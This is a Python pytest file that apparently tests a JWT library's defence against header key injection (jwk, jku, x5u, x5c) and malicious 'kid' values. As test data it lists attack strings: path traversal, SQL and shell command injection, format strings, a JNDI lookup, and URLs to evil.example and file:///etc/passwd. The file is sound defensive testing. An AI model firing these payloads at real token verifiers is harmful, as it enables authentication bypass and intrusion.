"""The token brings its own key, or tells where to fetch it, or what to look up.

Would have caught: CVE-2018-0114, CVE-2026-27962 and CVE-2026-34240 (`jwk` of the header trusted),
CVE-2026-32301 (an address from the token is fetched), and the `kid` attacks of the usual tools:
paths, queries, commands, formats.
"""

from __future__ import annotations

import socket
from typing import Any

import pytest

from authkit.errors import KeyNotFound, SignatureInvalid, TokenMalformed
from tests.attacks.forging import CLAIMS, attacker, signer, verify

ALGS = ["RS256", "ES256", "EdDSA"]
KIDS = [
    "../../../../dev/null", "/dev/null", "..\\..\\nul", "file:///dev/null", "C:\\key.pem",
    "' UNION SELECT 'secret", "1; DROP TABLE keys", "$(id)", "`id`", "| id", "%s%s%n",
    "{0.__class__}", "${jndi:ldap://evil.example/a}", "https://evil.example/jwks.json", "\0",
    "\r\nX: y", "*", ".*", "", "a" * 4000, "ключ", "\u202e",
]  # fmt: skip


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a token made us look up an address")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


def injections(alg: str) -> list[dict[str, Any]]:
    key = attacker(alg).public_jwk()
    return [
        {"jwk": key},
        {"jwk": attacker(alg).jwk()},
        {"jwk": {"keys": [key]}},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "http://127.0.0.1:1/jwks.json"},
        {"jku": "file:///etc/passwd"},
        {"jku": ["https://evil.example/jwks.json"]},
        {"x5u": "https://evil.example/chain.pem"},
        {"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]},
        {"x5c": "not even a list"},
        {"x5t": "AAAA", "x5t#S256": "AAAA"},
        {"keys": [key], "key": key, "n": key.get("n"), "x": key.get("x")},
    ]


@pytest.mark.parametrize("alg", ALGS)
def test_a_key_in_the_header_is_not_used(alg: str) -> None:
    """Signed with the attacker's key, which the header brings or points to: refused."""
    for injection in injections(alg):
        text = attacker(alg).sign(injection, CLAIMS)
        with pytest.raises(SignatureInvalid):
            verify(text, signer(alg).public_jwk())
        with pytest.raises(KeyNotFound):
            verify(text)
        assert verify(signer(alg).sign({}, CLAIMS), signer(alg).public_jwk())


@pytest.mark.parametrize("alg", ALGS)
def test_a_key_in_the_header_does_no_harm_either(alg: str) -> None:
    """Some honest issuers put theirs there: the token passes, by the published key alone."""
    for injection in injections(alg):
        signed = verify(signer(alg).sign(injection, CLAIMS), signer(alg).public_jwk())
        assert signed.key.thumbprint == signer(alg).kid


@pytest.mark.parametrize("kid", KIDS)
def test_a_kid_is_only_compared(kid: str) -> None:
    """Whatever it looks like, it fits the key of exactly this id, and no other."""
    text = signer("ES256").sign({"kid": kid}, CLAIMS)
    with pytest.raises(KeyNotFound):
        verify(text, signer("ES256").public_jwk())
    assert verify(text, {**signer("ES256").public_jwk(), "kid": kid}).header.kid == kid


@pytest.mark.parametrize("kid", [None, 0, 1, True, 1.5, [], ["k"], {}, {"k": 1}])
def test_a_kid_is_a_string(kid: object) -> None:
    """Other types crash look-ups, or equal each other (`1`, `True`, `1.0`)."""
    with pytest.raises(TokenMalformed):
        verify(signer("ES256").sign({"kid": kid}, CLAIMS), signer("ES256").public_jwk())


def test_kids_that_look_alike_are_different() -> None:
    """No case folding, no normalization, no prefixes (RFC 7515 section 4.1.4)."""
    jwk = {**signer("ES256").public_jwk(), "kid": "Ké"}
    for kid in ("ké", "KÉ", "Ke\u0301", "Ké ", "K", "Ké\0", "K\u00e9\u200b"):
        with pytest.raises(KeyNotFound):
            verify(signer("ES256").sign({"kid": kid}, CLAIMS), jwk)
    assert verify(signer("ES256").sign({"kid": "Ké"}, CLAIMS), jwk)
